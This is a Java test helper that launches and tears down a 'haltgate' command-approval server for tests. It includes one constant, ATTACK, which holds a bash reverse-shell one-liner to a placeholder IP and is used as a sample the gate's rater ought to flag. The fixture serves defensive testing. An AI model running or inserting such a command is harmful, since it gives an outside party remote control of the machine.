package dev.haltgate;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Comparator;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

/** A real gate in a folder of its own. */
final class GateServer implements AutoCloseable {
  /** Asks a human about everything. */
  static final String MANUAL = "{ \"approvals\": \"manual\" }";

  /** A command that the server's own rater calls an attack. */
  static final String ATTACK = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";

  final Path folder;
  private String address = "127.0.0.1:0";
  private Process process;

  /** Starts a gate with a configuration: JSON text. */
  GateServer(String configuration) {
    try {
      folder = Files.createTempDirectory("haltgate-java-");
      Files.writeString(folder.resolve("haltgate.jsonc"), configuration);
    } catch (IOException failure) {
      throw new UncheckedIOException(failure);
    }
    start();
  }

  String address() {
    return address;
  }

  Haltgate connect() {
    return Haltgate.connect(address);
  }

  /** Starts the gate, again at the address that it had. */
  void start() {
    String binary = System.getenv("HALTGATE_BIN");
    assertTrue(
        binary != null && Files.isExecutable(Path.of(binary)),
        "HALTGATE_BIN must name a haltgate binary");
    List<String> command =
        List.of(Path.of(binary).toAbsolutePath().toString(), "serve", "--listen", address);
    ProcessBuilder builder = new ProcessBuilder(command).directory(folder.toFile());
    builder.environment().keySet().removeIf(name -> name.startsWith("HALTGATE_"));
    builder.redirectError(ProcessBuilder.Redirect.appendTo(folder.resolve("stderr").toFile()));
    try {
      process = builder.start();
      BufferedReader output = process.inputReader(StandardCharsets.UTF_8);
      for (String line = output.readLine(); line != null; line = output.readLine()) {
        String[] words = line.strip().split("\\s+");
        if (words.length > 1 && words[0].equals("address")) {
          address = words[1];
          return;
        }
      }
      throw new AssertionError(
          "the server did not start: " + Files.readString(folder.resolve("stderr")));
    } catch (IOException failure) {
      throw new UncheckedIOException(failure);
    }
  }

  /** Ends the gate at once, and waits until it is gone. */
  void kill() {
    end(process.destroyForcibly());
  }

  /** Asks the gate to end, and waits until it is gone. */
  void stop() {
    process.destroy();
    end(process);
  }

  private static void end(Process ended) {
    try {
      assertTrue(ended.waitFor(60, TimeUnit.SECONDS), "the server does not end");
    } catch (InterruptedException interrupted) {
      throw new AssertionError(interrupted);
    }
  }

  @Override
  public void close() throws IOException {
    kill();
    try (Stream<Path> files = Files.walk(folder)) {
      for (Path file : files.sorted(Comparator.reverseOrder()).toList()) {
        Files.delete(file);
      }
    }
    assertEquals(false, Files.exists(folder));
  }
}
